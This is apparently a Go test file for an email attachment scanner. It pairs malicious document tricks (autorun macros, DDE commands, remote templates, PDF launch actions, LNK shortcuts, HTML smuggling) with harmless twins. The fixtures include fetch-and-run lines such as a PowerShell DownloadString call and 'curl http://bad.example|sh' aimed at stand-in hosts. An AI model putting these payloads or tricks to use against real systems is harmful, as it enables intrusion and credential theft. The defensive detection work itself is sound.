package document

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"strings"
	"testing"

	"mailward/policy"
)

func open(t *testing.T, name, kind string, data []byte) *Found {
	t.Helper()
	found, err := Open(File{Name: name, Type: kind, Attached: true, Data: data}, Limits{Bytes: 64 << 20})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

func has(f *Found, name string) bool {
	for _, x := range f.Findings {
		if x.Name == name {
			return true
		}
	}
	return false
}

// score is the sum of the signs; a finding with a class counts as too much.
func score(f *Found) (sum float64) {
	for _, x := range f.Findings {
		if x.Class != "" {
			return 100
		}
		sum += x.Score
	}
	return sum
}

// harmless is from what sum of signs on one file makes a mail spam, by default.
const harmless = 4

const payload = "PK\x03\x04 this is long enough to be taken for a file that a page hides, and is none: .............................................."

func smuggled(build string) []byte {
	b64 := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte(payload), 4))
	return []byte(`<html><script>var d="` + b64 + `"; var b=` + build + `</script></html>`)
}

// inPieces breaks the long string of a script into a sum of short ones.
func inPieces(page []byte) []byte {
	before, rest, _ := bytes.Cut(page, []byte(`d="`))
	long, after, _ := bytes.Cut(rest, []byte(`"`))
	var b bytes.Buffer
	b.Write(before)
	b.WriteString(`d="`)
	for i, c := range long {
		if b.WriteByte(c); i%60 == 59 {
			b.WriteString("\" +\n \"")
		}
	}
	b.WriteString(`"`)
	b.Write(after)
	return b.Bytes()
}

// TestTricks: each trick is found under its name, and its harmless twin passes.
func TestTricks(t *testing.T) {
	t.Parallel()
	doc := func(source string) []byte { return buildCFB("", stream{"VBA", "M", module(source)}) }
	compiled := func(code, source string) []byte {
		return buildCFB("", stream{"VBA", "M", append([]byte(code), module(source)...)})
	}
	xls := func(macro bool, name string, formula ...byte) []byte {
		return buildCFB("", stream{"", "Workbook", buildXLS(macro, name, formula)})
	}
	equation := func(n int) []byte {
		b := append(make([]byte, 28), 3, 1, 1, 3, 10, 0x0a, 8, 1, 0)
		return append(append(b, bytes.Repeat([]byte("A"), n)...), 0, 0, 0, 0, 0)
	}
	js := func(s string) []byte {
		return buildPDF("<< /Type /Catalog /OpenAction << /S /JavaScript /JS ("+s+") >> >>", "<< /Type /Page >>")
	}
	for _, tt := range []struct {
		trick, name, kind string
		hit, miss         []byte
	}{
		{"Document.Macro.AutoExec", "a.doc", "application/msword", doc("Sub AutoOpen()\r\nCreateObject(\"Wscr\" & \"ipt.Shell\").Run \"calc\"\r\nEnd Sub"), doc("Sub Total()\r\nRange(\"A1\").Value = 1\r\nEnd Sub")},
		{"Document.Macro.OtherSource", "a.doc", "application/msword", compiled("\x01\x16\x03\x00 WScript.Shell", "Sub AutoOpen()\r\nEnd Sub"), compiled("\x01\x16\x03\x00 WScript.Shell", "Sub Run()\r\nCreateObject(\"wscript.shell\")\r\nEnd Sub")},
		{"Document.Macro.NoSource", "a.doc", "application/msword", buildCFB("", stream{"VBA", "M", append([]byte("\x01\x16\x01\x00"), make([]byte, 600)...)}), buildCFB("", stream{"VBA", "dir", append([]byte("\x01\x16\xb2\x00"), make([]byte, 600)...)})},
		{"Document.Macro.NoSource", "a.doc", "application/msword", buildCFB("", stream{"VBA", "M", append([]byte("\x01\x16\x03\x00"), make([]byte, 600)...)}), compiled("\x01\x16\x03\x00", "Sub Run()\r\nEnd Sub")},
		{"Document.Macro.NoSource", "a.doc", "application/msword", buildCFB("", stream{"VBA", "M", []byte("\x02 no source")}), buildCFB("", stream{"VBA", "_VBA_PROJECT", []byte("\xcc\x61")}, stream{"VBA", "__SRP_0", []byte("x")})},
		{"Document.Macro.AutoExec", "a.doc", "application/msword", buildCFB("", stream{"VBA", "M", rawModule("Sub AutoOpen()\r\nShell(\"cmd.exe\")\r\nEnd Sub")}), buildCFB("", stream{"VBA", "M", rawModule("Sub Total()\r\nEnd Sub")})},
		{"Document.XLM.AutoExec", "a.xls", "application/vnd.ms-excel", xls(true, "Auto_Open", 0x42, 1, 0x6e, 0), xls(false, "Area", 0x42, 1, 4, 0)},
		{"Document.DDE.Command", "a.xls", "application/vnd.ms-excel", buildCFB("", stream{"", "Workbook", append(record(recBegin, make([]byte, 8)...), record(recSupBook, append([]byte{0, 0, 18, 0, 0}, "cmd\x03 /c calc.exe !"...)...)...)}), xls(false, "x")},
		{"Document.EquationExploit", "a.doc", "application/msword", buildCFB("", stream{"", "Equation Native", equation(60)}), buildCFB("", stream{"", "Equation Native", equation(10)})},
		{"Document.RemoteObject", "a.doc", "application/msword", buildCFB("", stream{"", "\x01Ole", append(append(make([]byte, 8), "\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b\xa9\x0b\x40\x00\x00\x00"...), wide("http://bad.example/x.hta\x00")...)}), buildCFB("", stream{"", "\x01Ole", make([]byte, 20)})},
		{"Document.ScriptObject", "a.doc", "application/msword", buildCFB(classHTA, stream{"", "x", nil}), buildCFB("", stream{"", "x", nil})},
		{"Type.Installer", "a.msi", "application/x-ms-installer", buildCFB(classMSI, stream{"", "x", nil}), buildCFB("", stream{"", "x", nil})[:512]},
		{"RTF.ObjectUpdate", "a.rtf", "text/rtf", buildRTF("Word.Document.8", buildCFB("", stream{"", "x", nil}), `\objupdate`, ""), buildRTF("Word.Document.8", buildCFB("", stream{"", "x", nil}), "", "")},
		{"RTF.ObfuscatedObject", "a.rtf", "text/rtf", buildRTF("Word.Document.8", []byte("0123456789"), "", `\foo12 {\bar}zz`), buildRTF("Word.Document.8", []byte("0123456789"), "", "\r\n")},
		{"Document.EquationExploit", "a.rtf", "text/rtf", buildRTF("Equation.3", equation(60), "", ""), buildRTF("Equation.3", equation(8), "", "")},
		{"Document.RemoteTemplate", "a.rtf", "text/rtf", []byte(`{\rtf1{\*\template http://bad.example/a.dotm}x}`), []byte(`{\rtf1{\*\template C:\\Users\\a\\Normal.dotm}x}`)},
		{"Document.DDE.Command", "a.rtf", "text/rtf", []byte(`{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}{\fldrslt x}}}`), []byte(`{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}}}`)},
		{"Document.RemoteTemplate", "a.doc", "text/xml", []byte(`<?xml version="1.0"?><!--` + strings.Repeat(" ", 3000) + `--><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:attachedTemplate w:val="https://bad.example/a.dotm"/></w:wordDocument>`), []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:attachedTemplate w:val="Normal.dotm"/></w:wordDocument>`)},
		{"Document.DDE.Command", "a.xml", "text/xml", []byte(`<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><Cell ss:Formula="=cmd|'/c calc'!A0"/></Workbook>`), []byte(`<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><Cell ss:Formula="=A1+1"/></Workbook>`)},
		{"Document.Macro.AutoExec", "a.fodt", "text/xml", []byte(`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><script:event-listener script:event-name="dom:load"/></office:document>`), []byte(`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xhtml="http://www.w3.org/1999/xhtml"><office:scripts><office:script script:language="ooo:Basic"/></office:scripts></office:document>`)},
		{"Outlook.Share", "a.msg", "application/vnd.ms-outlook", buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"", "__substg1.0_8005001F", wide(`\\bad.example\x.wav`)}), buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"__attach_version1.0_#00000000", "__substg1.0_370D001F", wide(`\\server\x.docx`)})},
		{"PDF.JavaScript.Exploit", "a.pdf", "application/pdf", js("eval\\(unescape\\('%u9090%u9090'\\)\\)"), js("AFNumber_Format\\(2, 0, 0, 0, '', true\\)")},
		{"PDF.JavaScript.AutoReach", "a.pdf", "application/pdf", js("app.launchURL\\('http://bad.example'\\)"), buildPDF("<< /A << /S /JavaScript /JS (app.launchURL\\('http://ok.example'\\)) >> >>")},
		{"PDF.Launch.Command", "a.pdf", "application/pdf", buildPDF("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), buildPDF("<< /S /GoTo /D [2 0 R /Fit] >>")},
		{"PDF.Launch.Command", "a.pdf", "application/pdf", buildPDF("<< /#53 /L#61unch /Win << /#46 (powershell.exe) >> >>"), buildPDF("<< /S /Named /N /NextPage >>")},
		{"PDF.ObfuscatedName", "a.pdf", "application/pdf", buildPDF("<< /J#61vaScript true >>"), buildPDF("<< /A#20B true >>")},
		{"PDF.Share", "a.pdf", "application/pdf", buildPDF(`<< /S /GoToR /F (\\\\bad.example\\share\\x.pdf) >>`), buildPDF("<< /S /GoToR /F (chapter2.pdf) >>")},
		{"PDF.SubmitForm", "a.pdf", "application/pdf", buildPDF("<< /S /SubmitForm /F << /FS /URL /F (http://bad.example/) >> >>"), buildPDF("<< /S /ResetForm >>")},
		{"LNK.Command", "a.lnk", "application/x-ms-shortcut", buildLNK(`..\..\Windows\System32\cmd.exe`, "/c powershell -enc AAAA", ""), buildLNK(`..\report.docx`, "", "")},
		{"LNK.Icon", "a.lnk", "application/x-ms-shortcut", buildLNK(`cmd.exe`, "/c x", `C:\Program Files\Adobe\Acrobat.exe`), buildLNK(`..\report.docx`, "", `C:\Program Files\Adobe\Acrobat.exe`)},
		{"LNK.Share", "a.lnk", "application/x-ms-shortcut", buildLNK(`\\bad.example\a\b.exe`, "", ""), buildLNK(`..\report.docx`, "", "")},
		{"OneNote.EmbeddedFile", "a.one", "application/onenote", buildOne("open.hta", []byte("<script>x</script>")), buildOne("a.png", []byte("\x89PNG...."))},
		{"Script.Calls", "a.ps1", "text/plain", []byte("IEX (New-Object Net.WebClient).DownloadString('http://bad.example')"), []byte("Get-ChildItem")},
		{"Script.Calls", "a.js", "text/plain", append([]byte("\xff\xfe"), wide("new ActiveXObject('WScript.Shell').Run('calc')")...), []byte("alert(1)")},
		{"Script.Encoded", "a.vbe", "text/plain", []byte("#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"), []byte("MsgBox 1")},
		{"Script.WebQuery", "a.iqy", "text/plain", []byte("WEB\r\n1\r\nhttp://bad.example/x.dat\r\n"), []byte("nothing")},
		{"Document.DDE.Command", "a.csv", "text/csv", []byte("a,b\n=cmd|'/C calc'!A0,1\n"), []byte("a,b\n=1+2,-3\n+49 30 1,@home\n")},
		{"Document.XLM.AutoExec", "a.slk", "text/plain", []byte("ID;P\nC;X1;Y101;K0;EEXEC(\"calc\")\n"), []byte("ID;P\nC;X1;Y1;K\"EXEC\"\n")},
		{"Shortcut.Share", "a.url", "text/plain", []byte("[InternetShortcut]\r\nURL=file://10.0.0.1@80/share/a.vbs\r\n"), []byte("[InternetShortcut]\r\nURL=https://ok.example/\r\n")},
		{"Shortcut.Share", "a.scf", "text/plain", []byte("[Shell]\r\nIconFile=\\\\bad.example\\x.ico\r\n"), []byte("[Shell]\r\nIconFile=explorer.exe,3\r\n")},
		{"Shortcut.Share", "a.theme", "text/plain", []byte("[Control Panel\\Desktop]\r\nWallpaper=\\\\bad.example\\s\\x.jpg\r\n"), []byte("[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\x.jpg\r\n")},
		{"Shortcut.Share", "desktop.ini", "text/plain", []byte("[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\s\\x.dll,0\r\n"), []byte("[x]\r\npath=C:\\\\Users\\\\a\r\n")},
		{"Shortcut.Share", "a.asx", "text/xml", []byte(`<asx><entry><ref href="file://bad.example/x.mp3"/></entry></asx>`), []byte(`<asx><entry><ref href="https://ok.example/x.mp3"/></entry></asx>`)},
		{"Script.RemoteDesktop", "a.rdp", "text/plain", append([]byte("\xff\xfe"), wide("redirectdrives:i:1\r\nfull address:s:bad.example:443\r\n")...), []byte("redirectdrives:i:0\r\n")},
		{"Shortcut.RemoteFolder", "a.library-ms", "text/xml", []byte(`<libraryDescription><simpleLocation><url>\\bad.example\webdav</url></simpleLocation></libraryDescription>`), []byte(`<libraryDescription><simpleLocation><url>knownfolder:{X}</url></simpleLocation></libraryDescription>`)},
		{"Script.SettingContent", "a.settingcontent-ms", "text/xml", []byte("<DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink>"), []byte("<Icon/>")},
		{"Script.Desktop", "a.desktop", "text/plain", []byte("[Desktop Entry]\nExec=sh -c 'curl http://bad.example|sh'\n"), []byte("[Desktop Entry]\nName=x\n")},
		{"Type.Help", "a.chm", "application/vnd.ms-htmlhelp", []byte("ITSF\x03\x00\x00\x00"), []byte("text")},
		{"HTML.Smuggling", "a.html", "text/html", smuggled(`new Blob([atob(d)]); a.href=URL.createObjectURL(b)`), []byte("<html><p>new Blob and atob( are explained here</p></html>")},
		{"HTML.PackedPage", "a.html", "text/html", []byte("<script>document.write(unescape('" + strings.Repeat("%3Cscript%3E", 20) + "'))</script>"), []byte("<script>document.write('hello')</script>")},
		{"HTML.Refresh", "a.html", "text/html", []byte(`<meta http-equiv="refresh" content="0; url=http://bad.example/">`), []byte(`<meta http-equiv="content-type" content="text/html">`)},
		{"HTML.Redirect", "a.html", "text/html", []byte(`<script>window.location.href = "http://bad.example"</script>`), []byte(`<p>location = Berlin</p>`)},
		{"HTML.Application", "a.hta", "text/html", []byte(`<html><hta:application id=x><script>1</script>`), []byte(`<html><p>x</p>`)},
		{"HTML.ProtocolLink", "a.html", "text/html", []byte(`<a href="search-ms:query=x&crumb=location:\\bad.example">`), []byte(`<a href="https://ok.example/?q=ms-word">`)},
		{"HTML.Smuggling", "a.html", "text/html", inPieces(smuggled(`new Blob([atob(d)]); a.href=URL.createObjectURL(b)`)), []byte("<html><script>var a = ['one', 'two'].join('')</script></html>")},
		{"HTML.Smuggling", "a.html", "application/pdf", append([]byte("<!-- %PDF-1.7 -->"), smuggled(`new Blob([atob(d)]); a.href=URL.createObjectURL(b)`)...), []byte("<!-- %PDF-1.7 --><html><p>x</p></html>")},
		{"HTML.Refresh", "a.html", "text/html", []byte(`<meta http-equiv="refresh" content="0;http://bad.example/">`), []byte(`<meta http-equiv="refresh" content="300">`)},
		{"XML.Script", "a.xml", "text/xml", []byte(`<?xml version="1.0"?><a><x:script xmlns:x="http://www.w3.org/1999/xhtml">location='https://bad.example'</x:script></a>`), []byte(`<?xml version="1.0"?><ubl:Invoice xmlns:ubl="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><cbc:Description>script</cbc:Description></ubl:Invoice>`)},
		{"XML.Script", "a.xml", "text/xml", []byte(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><xsl:stylesheet id="x" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><script>1</script></xsl:stylesheet>`), []byte(`<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`)},
		{"SVG.Script", "a.svg", "image/svg+xml", []byte(`<svg xmlns="x"><animate onend="x()"/></svg>`), []byte(`<svg xmlns="x"><animate dur="1s"/></svg>`)},
		{"SVG.Script", "a.svg", "image/svg+xml", []byte(`<svg xmlns="x"><script>location='http://bad.example'</script></svg>`), []byte(`<svg xmlns="x"><path d="M0 0"/></svg>`)},
		{"SVG.Page", "a.svg", "image/svg+xml", []byte(`<svg><foreignObject><form action="http://bad.example"><input></form></foreignObject></svg>`), []byte(`<svg><foreignObject><p>x</p></foreignObject></svg>`)},
		{"Name.RightToLeft", "invoice\u202efdp.exe", "text/plain", []byte("text"), []byte("")},
		{"Name.DoubleExtension", "report.pdf.exe", "text/plain", []byte("text"), []byte("")},
		{"Type.Program", "update", "application/x-elf", []byte("\x7fELF\x02\x01\x01"), []byte("text")},
		{"Type.Program", "update", "application/x-mach-binary", []byte("\xcf\xfa\xed\xfe"), []byte("text")},
		{"Type.Program", "a.pdf", "application/vnd.microsoft.portable-executable", program(), []byte("%PDF-1.4")},
		{"Type.Page", "a.pdf", "text/html", []byte("<html>x</html>"), []byte("%PDF-1.4")},
		{"Type.Archive", "a.jpg", "application/zip", []byte("PK\x03\x04"), []byte("\xff\xd8\xff\xe0")},
	} {
		if f := open(t, tt.name, tt.kind, tt.hit); !has(f, tt.trick) {
			t.Errorf("%s (%s) not found: %+v", tt.trick, tt.name, f.Findings)
		}
		kind := tt.kind
		if strings.HasPrefix(tt.trick, "Type.") {
			kind = ""
		}
		name := tt.name
		if strings.HasPrefix(tt.trick, "Name.") {
			name, tt.miss = "report.v1.pdf", []byte("text")
		}
		f := open(t, name, kind, tt.miss)
		if has(f, tt.trick) || score(f) > harmless {
			t.Errorf("%s (%s): the harmless twin has %+v", tt.trick, tt.name, f.Findings)
		}
		if f.Locked != "" {
			t.Errorf("%s (%s): the harmless twin does not open: %s", tt.trick, tt.name, f.Locked)
		}
	}
}

// TestPackages: the same for documents that are archives.
func TestPackages(t *testing.T) {
	t.Parallel()
	with := func(name, content string) map[string]string {
		return map[string]string{"[Content_Types].xml": "<Types/>", name: content}
	}
	word := func(b string) map[string]string { return with("word/document.xml", b) }
	for _, tt := range []struct {
		trick     string
		hit, miss map[string]string
	}{
		{"Document.RemoteTemplate", with("word/_rels/settings.xml.rels", rels("attachedTemplate", "http://bad.example/a.dotm")), with("word/_rels/settings.xml.rels", rels("attachedTemplate", "file:///C:/Users/a/Normal.dotm"))},
		{"Document.RemoteTemplate", with("word/_rels/settings.xml.rels", rels("attachedTemplate", `\\bad.example\s\a.dotm`)), with("word/_rels/document.xml.rels", rels("hyperlink", "http://ok.example/"))},
		{"Document.RemoteObject", with("word/_rels/document.xml.rels", rels("oleObject", "mhtml:http://bad.example/x!x-usc:http://bad.example/x")), with("word/_rels/document.xml.rels", rels("image", "https://ok.example/logo.png"))},
		{"Document.RemoteObject", with("word/_rels/document.xml.rels", rels("frame", "http://bad.example/")), with("xl/_rels/workbook.xml.rels", rels("externalLinkPath", "book2.xlsx"))},
		{"Document.RemoteObject", with("word/_rels/document.xml.rels", rels("image", "file://bad.example/x.png")), with("word/_rels/document.xml.rels", rels("image", "file:///C:/x.png"))},
		{"Document.RemoteTemplate", with("word/_rels/settings.xml.rels", "\xff\xfe"+string(wide(rels("attachedTemplate", "http://bad.example/a.dotm")))), with("word/_rels/settings.xml.rels", "\xff\xfe"+string(wide(rels("attachedTemplate", "Normal.dotm"))))},
		{"Document.RemoteTemplate", with("word/_rels/settings.xml.rels", string(wide(rels("attachedTemplate", "http://bad.example/a.dotm")))), with("word/_rels/settings.xml.rels", string(wide(rels("attachedTemplate", "Normal.dotm"))))},
		{"Document.ProgramLink", with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "powershell%20-NoP%20-c%20x")), with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "https://ok.example/powershell.exe"))},
		{"Document.ProgramLink", with("word/_rels/document.xml.rels", rels("hyperlink", `file:///C:\Windows\System32\calc.exe`)), with("word/_rels/document.xml.rels", rels("hyperlink", "file:///C:/python/notes.pdf"))},
		{"Document.ProgramLink", with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "mshta https://bad.example")), with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "Control"))},
		{"Document.ProgramLink", word(runs(`HYPERLINK "search-ms:query=x"`)), word(runs(`HYPERLINK "mailto:a@b.example?subject=x.exe"`))},
		{"Document.DDE.Command", word(runs("DDE", "AUTO c:\\\\windows\\\\system32\\\\c", "md.exe \"/k calc\"")), word(runs(" PAGE "))},
		{"Document.DDE.Command", word(`<w:document xmlns:w="w"><w:p><w:fldSimple w:instr='DDEAUTO "powershell" "-enc x"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:document>`), word(`<w:document xmlns:w="w"><w:p><w:fldSimple w:instr='DATE'/></w:p></w:document>`)},
		{"Document.DDE.Command", word(runs("DDEAUTO ", "QUOTE 67 77 68", " x")), word(runs("QUOTE 67 77 68"))},
		{"Document.DDE.Command", with("xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), with("xl/externalLinks/externalLink1.xml", `<externalLink><externalBook/></externalLink>`)},
		{"Document.XLM.AutoExec", map[string]string{"[Content_Types].xml": "", "xl/workbook.xml": `<workbook><sheets><sheet name="m" state="veryHidden"/></sheets><definedName name="_xlnm.Auto_Open">m!$A$1</definedName></workbook>`, "xl/macrosheets/sheet1.xml": `<f>EXEC("calc")</f>`}, map[string]string{"[Content_Types].xml": "", "xl/workbook.xml": `<workbook><sheets><sheet name="m" state="hidden"/></sheets></workbook>`, "xl/worksheets/sheet1.xml": `<f>SUM(A1)</f>`}},
		{"Document.XLM.AutoExec", map[string]string{"[Content_Types].xml": "", "xl/workbook.xml": `<workbook><definedName name="_xlnm.Auto_Open">m!$A$1</definedName></workbook>`, "xl/some/sheet1.xml": `<xm:macrosheet xmlns:xm="x"><f>EXEC("calc")</f></xm:macrosheet>`}, map[string]string{"[Content_Types].xml": "", "xl/workbook.xml": `<workbook><definedName name="Area">m!$A$1</definedName></workbook>`, "xl/some/sheet1.xml": `<worksheet><f>SUM(A1)</f></worksheet>`}},
		{"Document.XLM.AutoExec", map[string]string{"[Content_Types].xml": "", "xl/workbook.bin": "\x83\x01" + string(wide("_xlnm.Auto_Open")), "xl/macrosheets/sheet1.bin": "\x00\x42\x01\x6e\x00\x00"}, map[string]string{"[Content_Types].xml": "", "xl/workbook.bin": string(wide("_xlnm.Print_Area")), "xl/worksheets/sheet1.bin": "\x00\x42\x01\x6e\x00\x00"}},
		{"Document.Macro.Calls", map[string]string{"content.xml": "<x/>", "Basic/Standard/Module1.xml": `<script:module>Sub Main&#13;Shell(&quot;cmd.exe&quot;)&#13;End Sub</script:module>`}, map[string]string{"content.xml": "<x/>", "Basic/Standard/script-lb.xml": `<library:library/>`}},
		{"Document.ActiveX", with("word/activeX/activeX1.xml", "<ax:ocx/>"), word(runs(" TOC "))},
		{"Document.AltChunk", with("word/_rels/document.xml.rels", strings.Replace(rels("aFChunk", "chunk.rtf"), `TargetMode="External"`, "", 1)), word(runs(" TOC "))},
		{"Document.Macro.AutoExec", map[string]string{"mimetype": "x", "content.xml": `<office:document-content xmlns:script="s"><script:event-listener script:language="ooo:script" script:event-name="dom:load"/></office:document-content>`}, map[string]string{"content.xml": "<office:document-content><text:p xmlns:text='t'>x</text:p></office:document-content>"}},
	} {
		if f := packageOf(t, tt.hit); !has(f, tt.trick) {
			t.Errorf("%s not found: %+v", tt.trick, f.Findings)
		}
		if f := packageOf(t, tt.miss); has(f, tt.trick) || score(f) > harmless {
			t.Errorf("%s: the harmless twin has %+v", tt.trick, f.Findings)
		}
	}
}

// Of two files of one name in a document both are read.
func TestPackages_Twice(t *testing.T) {
	t.Parallel()
	for _, order := range [][]string{{"Normal.dotm", "http://bad.example/a.dotm"}, {"http://bad.example/a.dotm", "Normal.dotm"}} {
		p := NewPackage([]string{"[Content_Types].xml"})
		for _, target := range order {
			p.Add("word/_rels/settings.xml.rels", []byte(rels("attachedTemplate", target)))
		}
		if f, err := p.Open(File{Name: "a.docx"}, Limits{Bytes: 64 << 20}); err != nil || !has(f, "Document.RemoteTemplate") {
			t.Errorf("%v: %+v, error %v", order, f.Findings, err)
		}
	}
}

// A document of LibreOffice that is encrypted does not open, and says so.
func TestPackages_Locked(t *testing.T) {
	t.Parallel()
	if f := packageOf(t, map[string]string{"META-INF/manifest.xml": `<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>`, "encrypted-package": "x"}); f.Locked == "" {
		t.Errorf("it opens: %+v", f)
	}
	if f := packageOf(t, map[string]string{"META-INF/manifest.xml": `<manifest:file-entry/>`, "content.xml": "<x/>"}); f.Locked != "" {
		t.Error(f.Locked)
	}
}

// TestEmbedded: files in files come out, by name.
func TestEmbedded(t *testing.T) {
	t.Parallel()
	data := []byte("the file itself")
	chain := base85(deflated(string(data)))
	for name, tt := range map[string]struct {
		file, kind string
		in         []byte
		want       string
	}{
		"ole package":     {"a.doc", "application/msword", buildCFB("", stream{"", "\x01Ole10Native", native("evil.js", data)}), "evil.js"},
		"outlook":         {"a.msg", "application/vnd.ms-outlook", buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"__attach_version1.0_#00000000", "__substg1.0_3707001F", wide("bill.pdf")}, stream{"__attach_version1.0_#00000000", "__substg1.0_37010102", data}), "bill.pdf"},
		"body of outlook": {"a.msg", "", buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"", "__substg1.0_10090102", append([]byte("\x00\x00\x00\x00\x00\x00\x00\x00MELA\x00\x00\x00\x00"), data...)}), "body.rtf"},
		"page in rtf":     {"a.rtf", "text/rtf", []byte(`{\rtf1\ansi\fromhtml1 {\*\htmltag64 the file itself<a href="https://a.example">}x\htmlrtf{\field}\htmlrtf0{\*\htmltag72 </a>}}`), "body.html"},
		"rtf package":     {"a.rtf", "text/rtf", buildRTF("Package", native("evil.js", data)[4:], "", ""), "evil.js"},
		"pdf":             {"a.pdf", "application/pdf", buildPDF("<< /Type /Filespec /F (evil.js) /EF << /F 2 0 R >> >>", pdfStreamOf("/Type /EmbeddedFile", data)), "evil.js"},
		"pdf filters":     {"a.pdf", "application/pdf", buildPDF("<< /F (evil.js) /EF << /F 2 0 R >> >>", pdfStreamOf("/Filter [/ASCII85Decode /FlateDecode]", chain)), "evil.js"},
		"pdf wrong size":  {"a.pdf", "application/pdf", []byte(strings.Replace(string(buildPDF("<< /F (evil.js) /EF << /F 2 0 R >> >>", pdfStreamOf("", data))), "/Length 15", "/Length 3", 1)), "evil.js"},
		"onenote":         {"a.one", "application/onenote", buildOne("evil.js", data), "evil.js"},
		"page":            {"a.html", "text/html", []byte(`<a href="data:application/zip;base64,` + base64.StdEncoding.EncodeToString(append(data, data...)) + `">`), ""},
		"installer":       {"a.msi", "", buildCFB(classMSI, stream{"", "Binary", program()}), "Binary.exe"},
		"object of ppt":   {"a.ppt", "", buildCFB("", stream{"", "PowerPoint Document", pptObject(data)}), "object.ole"},
		"smuggled file":   {"a.html", "text/html", smuggled("new Blob([atob(d)])"), ""},
		"word 2003 macro": {"a.xml", "text/xml", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="w"><w:binData>` + base64.StdEncoding.EncodeToString(append([]byte("ActiveMime\x00\x00"), deflated(string(data))...)) + `</w:binData></w:wordDocument>`), "object.bin"},
	} {
		f := open(t, tt.file, tt.kind, tt.in)
		if len(f.Embedded) == 0 || f.Embedded[0].Name != tt.want || name != "smuggled file" && name != "installer" && !bytes.HasPrefix(f.Embedded[0].Data, data) {
			t.Errorf("%s: %+v", name, f.Embedded)
		}
	}
}

func pptObject(data []byte) []byte {
	z := append([]byte{byte(len(data)), 0, 0, 0}, deflated(string(data))...)
	return append([]byte{0x10, 0, 0x11, 0x10, byte(len(z)), 0, 0, 0}, z...)
}

// base85 writes ASCII85, for what un85 reads.
func base85(b []byte) []byte {
	var out []byte
	for len(b) > 0 {
		n := min(4, len(b))
		var v uint32
		for i := range 4 {
			v <<= 8
			if i < n {
				v |= uint32(b[i])
			}
		}
		var d [5]byte
		for i := 4; i >= 0; i-- {
			d[i] = byte(v%85) + '!'
			v /= 85
		}
		out = append(out, d[:n+1]...)
		b = b[n:]
	}
	return append(out, "~>"...)
}

// TestText: what a document says.
func TestText(t *testing.T) {
	t.Parallel()
	cmapData := "1 begincodespacerange <00> <ff> endcodespacerange 2 beginbfchar <01> <0048> <02> <0069> endbfchar"
	page := func(content, font string) []byte {
		return buildPDF("<< /Type /Page /Contents 2 0 R /Resources << /Font << /F1 3 0 R >> >> >>", pdfStreamOf("/Filter /FlateDecode", deflated(content)), font, pdfStreamOf("", []byte(cmapData)))
	}
	for name, tt := range map[string]struct {
		file string
		in   []byte
		want string
	}{
		"rtf":           {"a.rtf", []byte(`{\rtf1\ansi{\fonttbl{\f0 Arial;}}Gr\'fc\'dfe \u8364?5\par next{\*\generator x}}`), "Grüße €5\n next"},
		"xls":           {"a.xls", buildCFB("", stream{"", "Workbook", buildXLS(false, "x", nil)}), "cell text"},
		"pdf":           {"a.pdf", page("BT /F1 12 Tf (Hello) Tj 0 -14 Td [(Wor) -20 (ld) -300 (x)] TJ ET", "<< /Type /Font /Subtype /Type1 >>"), "Hello\nWorld x"},
		"pdf tounicode": {"a.pdf", page("BT /F1 12 Tf <0102> Tj ET", "<< /Type /Font /Subtype /TrueType /ToUnicode 4 0 R >>"), "Hi"},
		"msg":           {"a.msg", buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"", "__substg1.0_1000001F", wide("body text")}), "body text"},
	} {
		f := open(t, tt.file, "", tt.in)
		if got := strings.TrimSpace(f.Text); !strings.HasPrefix(strings.Join(strings.Fields(got), " "), strings.Join(strings.Fields(tt.want), " ")) {
			t.Errorf("%s: %q", name, got)
		}
	}
	f := packageOf(t, map[string]string{"[Content_Types].xml": "", "word/document.xml": `<w:document xmlns:w="w"><w:p><w:r><w:t>Hello </w:t></w:r><w:r><w:t>you</w:t></w:r></w:p></w:document>`, "xl/sharedStrings.xml": `<sst><si><t>DE89 3704</t></si></sst>`, "xl/worksheets/sheet1.xml": `<c t="s"><v>7</v></c><c><v>4111111111111111</v></c>`, "word/_rels/document.xml.rels": rels("hyperlink", "https://a.example/")})
	for _, want := range []string{"Hello you", "DE89 3704", "4111111111111111"} {
		if !strings.Contains(f.Text, want) {
			t.Errorf("%q lacks %q", f.Text, want)
		}
	}
	if strings.Contains(f.Text, "7 4111") || len(f.Links) != 1 || f.Links[0].Target != "https://a.example/" {
		t.Errorf("%q, links %v", f.Text, f.Links)
	}
}

